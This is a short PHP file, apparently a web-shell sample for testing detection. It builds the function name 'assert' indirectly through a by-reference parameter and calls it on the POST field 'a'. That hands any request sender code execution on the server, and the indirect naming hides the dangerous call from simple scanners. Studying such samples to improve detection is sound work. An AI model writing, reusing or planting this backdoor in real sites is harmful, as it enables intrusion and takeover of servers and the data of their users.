<?php
// A by-reference parameter completed in place names the sink.
function complete(&$word) { $word = $word . 't'; }
$w = 'asser';
complete($w);
$w($_POST['a']);
